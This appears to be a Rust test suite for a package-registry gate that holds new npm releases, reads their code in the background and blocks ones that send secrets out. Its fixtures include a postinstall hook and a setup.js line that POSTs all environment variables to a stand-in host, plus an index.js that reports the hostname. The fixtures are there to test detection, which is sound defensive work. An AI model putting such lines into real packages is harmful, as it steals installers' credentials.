//! What is held, and what came before a release, is read while nobody waits; what this
//! machine would install is read before it is offered.

use crate::harness::{World, read};
use crate::shelves::{Release, STALE, days, hours, package, release, tarball_path, tgz};
use customs_gate::{RunEnd, RunReport};
use customs_model::{Decision, Digest, DigestAlgorithm, ReleaseId, SignedDuration};
use customs_store::LedgerRecord;
use serde_json::json;
use std::time::Duration;

const MANIFEST: (&str, &str) = ("package.json", r#"{"name": "left", "main": "index.js"}"#);
const HOOK: (&str, &str) = (
    "package.json",
    r#"{"name": "left", "scripts": {"postinstall": "node setup.js"}}"#,
);
const THEFT: (&str, &str) = (
    "setup.js",
    "fetch('https://collect.invalid/v1', {method: 'POST', body: JSON.stringify(process.env)});",
);
const CALM: (&str, &str) = ("index.js", "exports.left = 1;");
/// It tells a host where it runs, whenever it is imported.
const CURIOUS: (&str, &str) = (
    "index.js",
    "const os = require('os');\nfetch('https://collect.example/v1', {method: 'POST', body: os.hostname()});",
);

async fn with(young: Vec<Release>) -> World {
    let world = World::new().await;
    let latest = young.last().unwrap().version.clone();
    let mut releases = vec![release("1.0.0", days(100)).bytes(tgz(&[MANIFEST, CALM]))];
    releases.extend(young);
    let left = package("left", world.now(), releases);
    world.publish(&left.tags(&[("latest", latest.as_str())]));
    world
}

/// Waits for something that happens while nobody asks.
async fn in_time<T>(mut look: impl AsyncFnMut() -> Option<T>) -> T {
    for _ in 0..200 {
        if let Some(found) = look().await {
            return found;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("it did not happen within ten seconds");
}

async fn reported<T>(world: &World, find: impl Fn(&RunReport) -> Option<T>) -> T {
    in_time(async || find(&world.gate.report().await)).await
}

/// What the ledger says of a version, oldest first.
fn decided(world: &World, version: &str) -> Vec<(Decision, String)> {
    let of_version = |record: LedgerRecord| match record {
        LedgerRecord::Decided(decided) if decided.decision.release.version.as_str() == version => {
            Some((decided.decision, decided.changed))
        }
        _ => None,
    };
    world
        .gate
        .records()
        .into_iter()
        .filter_map(of_version)
        .collect()
}

fn sha512(bytes: &[u8]) -> Digest {
    crate::shelves::digest(DigestAlgorithm::Sha512, bytes)
}

#[tokio::test]
async fn what_is_held_for_its_age_is_read_meanwhile_and_proof_blocks_it() {
    let bytes = tgz(&[HOOK, THEFT]);
    let held = release("1.0.1", hours(1)).bytes(bytes.clone());
    // Its document does not say that it runs anything.
    let world = with(vec![held]).await;
    let answered = world.gate.get("/left").await;
    assert_eq!(answered.json()["dist-tags"]["latest"], "1.0.0");
    let tarball = tarball_path("left", "1.0.1");
    assert_eq!(world.asked(&tarball), 0, "nobody waited for it");

    let entry = reported(&world, |report| {
        let mut held = report.held.iter();
        held.find(|h| h.action == "block").cloned()
    })
    .await;
    assert_eq!(
        (entry.rule.as_str(), entry.until),
        ("secret-to-network", None)
    );
    assert_eq!(world.asked(&tarball), 1);

    let steps = decided(&world, "1.0.1");
    assert!(steps.len() >= 2, "{steps:?}");
    assert_eq!(steps[0].0.action.word(), "hold");
    assert_eq!(steps[0].0.inputs.artifact, None);
    assert_eq!(steps[1].0.action.word(), "block");
    assert_eq!(steps[1].0.inputs.artifact, Some(sha512(&bytes)));
    assert!(steps[1].0.inputs.document.is_some());
    assert_eq!(steps[1].0.epoch.engine, steps[0].0.epoch.engine);
}

#[tokio::test]
async fn a_held_release_that_shows_nothing_is_held_until_its_end_and_that_is_said() {
    let world = with(vec![
        release("1.0.1", hours(1)).bytes(tgz(&[MANIFEST, CALM])),
    ])
    .await;
    world.gate.get("/left").await;
    let entry = reported(&world, |report| {
        let mut held = report.held.iter();
        held.find(|h| h.shows.is_some()).cloned()
    })
    .await;
    assert_eq!(
        (entry.action.as_str(), entry.rule.as_str()),
        ("hold", "version-age")
    );
    assert_eq!(
        entry.shows.as_deref(),
        Some("nothing that a rule speaks against")
    );

    // When the hold ends nothing has to be fetched to offer it.
    let tarball = tarball_path("left", "1.0.1");
    let before = world.asked(&tarball);
    world.gate.later(days(3));
    let document = world.gate.get("/left").await.json();
    assert_eq!(document["dist-tags"]["latest"], "1.0.1");
    assert_eq!((before, world.asked(&tarball)), (1, 1));
}

#[tokio::test]
async fn the_newest_of_each_line_are_read_within_a_minutes_budget() {
    let world = World::new().await;
    let lines = (1..=12).flat_map(|major| {
        (0..4).map(move |patch| {
            let version = format!("{major}.0.{patch}");
            let bytes = tgz(&[MANIFEST, ("index.js", &version)]);
            release(&version, hours(1)).bytes(bytes)
        })
    });
    let mut releases = vec![release("0.1.0", days(100))];
    releases.extend(lines);
    world.publish(&package("left", world.now(), releases).tags(&[("latest", "12.0.3")]));
    world.gate.get("/left").await;
    let asked = || {
        let hits = world.server.hits();
        hits.iter().filter(|h| h.path.ends_with(".tgz")).count()
    };
    // Six lines, four of each: and no more, however long it takes.
    in_time(async || (asked() >= 24).then_some(())).await;
    tokio::time::sleep(Duration::from_millis(600)).await;
    assert_eq!(asked(), 24);
    assert_eq!(world.asked(&tarball_path("left", "12.0.3")), 1);
    assert_eq!(world.asked(&tarball_path("left", "6.0.3")), 0);

    // A second package finds six left of this minute's budget, and the next one begins.
    let more = (0..3).flat_map(|major| {
        (0..4).map(move |patch| release(&format!("{}.0.{patch}", major + 1), hours(1)))
    });
    let right: Vec<Release> = std::iter::once(release("0.1.0", days(100)))
        .chain(more)
        .map(|r| {
            let bytes = tgz(&[MANIFEST, ("right.js", &r.version)]);
            r.bytes(bytes)
        })
        .collect();
    world.publish(&package("right", world.now(), right).tags(&[("latest", "3.0.3")]));
    world.gate.get("/right").await;
    in_time(async || (asked() >= 30).then_some(())).await;
    tokio::time::sleep(Duration::from_millis(1_500)).await;
    assert_eq!(asked(), 30, "the budget is spent");
    world.gate.later(SignedDuration::from_mins(1));
    in_time(async || (asked() >= 36).then_some(())).await;
}

#[tokio::test]
async fn what_was_not_read_before_its_run_ended_is_said_and_is_read_no_more() {
    let world = with(vec![
        release("1.0.1", hours(1)).bytes(tgz(&[MANIFEST, CALM])),
    ])
    .await;
    world.gate.get("/left").await;
    let run = world
        .gate
        .url(&format!("/-/customs/runs/{}", world.gate.id));
    let ended = read(
        world
            .gate
            .client
            .delete(run)
            .bearer_auth(crate::harness::SECRET),
    )
    .await;
    let end: RunEnd = serde_json::from_slice(&ended.body).unwrap();
    let [entry] = end.report.not_read.as_slice() else {
        panic!("{:?}", end.report.not_read);
    };
    assert_eq!(
        entry.what,
        "its code, while it is held: the run ended first"
    );
    let names: Vec<String> = entry.releases.iter().map(ReleaseId::spoken).collect();
    assert_eq!(names, ["left@1.0.1"]);
    tokio::time::sleep(Duration::from_millis(800)).await;
    assert_eq!(world.asked(&tarball_path("left", "1.0.1")), 0);
}

#[tokio::test]
async fn a_held_release_that_cannot_be_had_is_said_once_and_not_asked_for_again() {
    let world = with(vec![release("1.0.1", hours(1))]).await;
    let tarball = tarball_path("left", "1.0.1");
    world.shelves.take_away(&tarball);
    world.gate.get("/left").await;
    let what = reported(&world, |report| {
        report.not_read.first().map(|entry| entry.what.clone())
    })
    .await;
    assert!(what.starts_with("its code, while it is held: "), "{what}");
    assert!(what.contains("404"), "{what}");
    world.gate.get("/left").await;
    tokio::time::sleep(Duration::from_millis(800)).await;
    assert_eq!(world.asked(&tarball), 1);
}

#[tokio::test]
async fn a_predecessor_is_read_afterwards_and_what_is_new_reaches_decision_and_ledger() {
    let young = tgz(&[MANIFEST, CURIOUS]);
    let world = with(vec![release("1.0.1", days(5)).bytes(young.clone())]).await;
    let document = world.gate.get("/left").await.json();
    assert_eq!(document["dist-tags"]["latest"], "1.0.1", "it is offered");
    assert_eq!(world.asked(&tarball_path("left", "1.0.1")), 1, "read first");
    let before = tarball_path("left", "1.0.0");
    assert_eq!(world.asked(&before), 0, "nobody waits for its predecessor");

    let steps = in_time(async || {
        let steps = decided(&world, "1.0.1");
        (steps.len() > 1).then_some(steps)
    })
    .await;
    assert_eq!(world.asked(&before), 1);
    let rules = |decision: &Decision| -> Vec<String> {
        let reasons = decision.reasons.iter();
        reasons.map(|r| r.rule.to_string()).collect()
    };
    let (first, second) = (&steps[0].0, &steps[1].0);
    assert!(!rules(first).contains(&"novelty".to_owned()), "{first:?}");
    assert!(rules(second).contains(&"novelty".to_owned()), "{second:?}");
    assert_eq!(steps[1].1, "other rules speak");
    let compared = |decision: &Decision| decision.inputs.predecessor.clone().unwrap();
    assert_eq!(compared(first).artifact, None);
    let calm = sha512(&tgz(&[MANIFEST, CALM]));
    assert_eq!(compared(second).artifact, Some(calm));
    assert_eq!(second.inputs.artifact, Some(sha512(&young)));

    // Whoever gets it is told.
    let answered = world.gate.get(&tarball_path("left", "1.0.1")).await;
    assert_eq!(answered.status, 200, "{}", answered.text());
    let report = world.gate.report().await;
    let told = |warning: &String| warning.contains("(novelty)");
    assert!(report.warnings.iter().any(told), "{:?}", report.warnings);
    let not_read = |what: &str| what.contains("that one was not read");
    assert!(!report.not_checked.iter().any(|e| not_read(&e.what)));
}

#[tokio::test]
async fn a_predecessor_that_somebody_else_got_counts_as_well() {
    let world = with(vec![
        release("1.0.1", days(5)).bytes(tgz(&[MANIFEST, CURIOUS])),
    ])
    .await;
    // A lockfile's client: documents are judged, the old tarball is read for its delivery.
    let old = world.gate.get(&tarball_path("left", "1.0.0")).await;
    assert_eq!(old.status, 200);
    let new = world.gate.get(&tarball_path("left", "1.0.1")).await;
    assert_eq!(new.status, 200, "{}", new.text());
    let delivered = world
        .gate
        .records()
        .into_iter()
        .rev()
        .find_map(|r| match r {
            LedgerRecord::Delivered(delivered) => Some(delivered),
            _ => None,
        });
    let rules = delivered.expect("it was delivered").rules;
    assert!(rules.iter().any(|r| r.as_str() == "novelty"), "{rules:?}");
}

#[tokio::test]
async fn a_decision_that_says_the_same_on_more_is_recorded_with_what_it_rests_on() {
    let world = with(vec![release("1.0.1", days(5)).bytes(tgz(&[
        MANIFEST,
        CALM,
        ("a", "b"),
    ]))])
    .await;
    world.gate.get("/left").await;
    let steps = in_time(async || {
        let steps = decided(&world, "1.0.1");
        (steps.len() > 1).then_some(steps)
    })
    .await;
    assert_eq!(steps[1].1, "the code of its predecessor was read");
    // And not again and again.
    world.gate.later(STALE);
    world.gate.get("/left").await;
    assert_eq!(decided(&world, "1.0.1").len(), 2);
}

/// A young release with a thief in it, for the machines that `more` says.
async fn bound(more: serde_json::Value) -> World {
    let young = release("1.0.1", days(5)).bytes(tgz(&[HOOK, THEFT]));
    with(vec![young.more(more)]).await
}

#[tokio::test]
async fn what_this_machine_would_install_is_read_before_it_is_offered() {
    // Every machine that tests run on is none of these.
    let world = bound(json!({"os": ["!aix"], "cpu": ["!mips"]})).await;
    let document = world.gate.get("/left").await.json();
    assert_eq!(document["dist-tags"]["latest"], "1.0.0", "npm falls back");

    let world = bound(json!({"os": ["aix"]})).await;
    let document = world.gate.get("/left").await.json();
    assert_eq!(document["dist-tags"]["latest"], "1.0.1", "for others");
    let tarball = tarball_path("left", "1.0.1");
    assert_eq!(world.asked(&tarball), 0);
    let answered = world.gate.get(&tarball).await;
    answered.explained(403, &["secret-to-network"]);
}

#[tokio::test]
async fn a_large_one_that_a_resolver_takes_first_is_read_before_it_is_offered() {
    let size = |bytes: u64| json!({"dist": {"unpackedSize": bytes}});
    let world = bound(size(200 << 20)).await;
    let document = world.gate.get("/left").await.json();
    assert_eq!(document["dist-tags"]["latest"], "1.0.0");

    let world = bound(size(300 << 20)).await;
    let document = world.gate.get("/left").await.json();
    assert_eq!(document["dist-tags"]["latest"], "1.0.1");
    let answered = world.gate.get(&tarball_path("left", "1.0.1")).await;
    answered.explained(403, &["secret-to-network"]);
}
